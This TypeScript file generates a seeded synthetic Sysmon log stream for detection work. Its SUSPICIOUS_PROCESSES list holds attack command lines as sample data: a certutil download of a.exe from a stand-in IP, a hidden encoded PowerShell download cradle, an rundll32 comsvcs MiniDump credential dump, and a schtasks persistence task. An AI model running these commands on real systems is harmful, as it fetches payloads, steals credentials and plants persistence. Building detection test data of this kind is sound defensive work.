/**
 * A deterministic synthetic Sysmon stream: a realistic mix of event ids with mostly benign values
 * and a sprinkle of suspicious ones, the same bytes on every run (seeded PRNG).
 */

/** mulberry32: small, fast, deterministic. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const HOSTS = ['WS-0412.corp.local', 'WS-0977.corp.local', 'SRV-DB01.corp.local', 'DC-01.corp.local', 'WS-1203.corp.local'];
const USERS = ['CORP\\alice', 'CORP\\bob', 'NT AUTHORITY\\SYSTEM', 'CORP\\svc_backup', 'NT AUTHORITY\\NETWORK SERVICE'];
const BENIGN_PROCESSES: Array<[string, string]> = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US'],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" '],
  ['C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}'],
  ['C:\\Program Files\\Microsoft VS Code\\Code.exe', '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility'],
  ['C:\\Windows\\System32\\SearchIndexer.exe', 'C:\\Windows\\system32\\SearchIndexer.exe /Embedding'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1'],
];
const SUSPICIOUS_PROCESSES: Array<[string, string]> = [
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full'],
  ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
  ['C:\\Windows\\System32\\schtasks.exe', 'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe'],
];
const IMAGES_LOADED = ['C:\\Windows\\System32\\ntdll.dll', 'C:\\Windows\\System32\\kernel32.dll', 'C:\\Windows\\System32\\user32.dll', 'C:\\Windows\\System32\\combase.dll', 'C:\\Windows\\System32\\bcrypt.dll'];
const DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'update.corp.local', 'cdn.office.net', 'github.com'];
const FILES = ['C:\\Users\\alice\\AppData\\Local\\Temp\\tmp1A2B.tmp', 'C:\\Users\\bob\\Documents\\report.docx', 'C:\\Windows\\Prefetch\\CHROME.EXE-1234ABCD.pf', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache.bin'];
const REG_KEYS = ['HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs', 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated', 'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1-2-3-1001\\chrome.exe'];

/** Event id weights: roughly what a workstation with sysmon-modular logs. */
const MIX: Array<[number, number]> = [[1, 0.2], [3, 0.15], [5, 0.08], [7, 0.2], [10, 0.05], [11, 0.12], [12, 0.03], [13, 0.1], [22, 0.07]];

function pick<T>(rand: () => number, list: T[]): T {
  return list[Math.floor(rand() * list.length)];
}

function guid(rand: () => number): string {
  const hex = () => Math.floor(rand() * 0x10000).toString(16).padStart(4, '0');
  return `{${hex()}${hex()}-${hex()}-${hex()}-${hex()}-${hex()}${hex()}${hex()}}`;
}

/** `firstIndex`: the position of the first event in a longer stream written in chunks (its times go on from there). */
export function syntheticEvents(count: number, seed = 42, firstIndex = 0): Array<Record<string, unknown>> {
  const rand = prng(seed);
  const start = Date.UTC(2024, 4, 1, 8, 0, 0);
  const events: Array<Record<string, unknown>> = [];
  for (let i = 0; i < count; i++) {
    let r = rand();
    let id = 1;
    for (const [eid, w] of MIX) {
      if (r < w) { id = eid; break; }
      r -= w;
    }
    const [image, commandLine] = rand() < 0.005 ? pick(rand, SUSPICIOUS_PROCESSES) : pick(rand, BENIGN_PROCESSES);
    const time = new Date(start + (firstIndex + i) * 37).toISOString().replace('T', ' ').replace('Z', '');
    const base: Record<string, unknown> = {
      EventID: id, Channel: SYSMON, Provider_Name: 'Microsoft-Windows-Sysmon', Computer: pick(rand, HOSTS),
      RuleName: '-', UtcTime: time, ProcessGuid: guid(rand), ProcessId: String(1000 + Math.floor(rand() * 60000)), Image: image, User: pick(rand, USERS),
    };
    switch (id) {
      case 1: Object.assign(base, { CommandLine: commandLine, CurrentDirectory: 'C:\\Windows\\system32\\', IntegrityLevel: 'Medium', Hashes: 'SHA256=9F2C1E0A5B3D7C8E9F0A1B2C3D4E5F6A7B8C9D0E1F2A3B4C5D6E7F8A9B0C1D2E', ParentProcessGuid: guid(rand), ParentImage: pick(rand, BENIGN_PROCESSES)[0], ParentCommandLine: pick(rand, BENIGN_PROCESSES)[1], OriginalFileName: image.split('\\').pop()?.toUpperCase(), Description: 'Windows process', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation' }); break;
      case 3: Object.assign(base, { Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.4.12', SourcePort: String(49152 + Math.floor(rand() * 16000)), DestinationIp: `${13 + Math.floor(rand() * 200)}.${Math.floor(rand() * 255)}.${Math.floor(rand() * 255)}.${Math.floor(rand() * 255)}`, DestinationPort: pick(rand, ['443', '80', '53', '445', '3389']), DestinationHostname: pick(rand, DOMAINS) }); break;
      case 7: Object.assign(base, { ImageLoaded: pick(rand, IMAGES_LOADED), Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid', Hashes: 'SHA256=00AA', OriginalFileName: 'ntdll.dll' }); break;
      case 10: Object.assign(base, { SourceImage: image, TargetImage: pick(rand, BENIGN_PROCESSES)[0], GrantedAccess: pick(rand, ['0x1000', '0x1400', '0x101541']), CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e' }); break;
      case 11: Object.assign(base, { TargetFilename: pick(rand, FILES), CreationUtcTime: time }); break;
      case 12: Object.assign(base, { EventType: pick(rand, ['CreateKey', 'DeleteKey']), TargetObject: pick(rand, REG_KEYS) }); break;
      case 13: Object.assign(base, { EventType: 'SetValue', TargetObject: pick(rand, REG_KEYS), Details: pick(rand, ['DWORD (0x00000001)', 'Binary Data', 'C:\\Program Files\\x.exe']) }); break;
      case 22: Object.assign(base, { QueryName: pick(rand, DOMAINS), QueryStatus: '0', QueryResults: '::ffff:142.250.74.36;' }); break;
      default: break;
    }
    events.push(base);
  }
  return events;
}
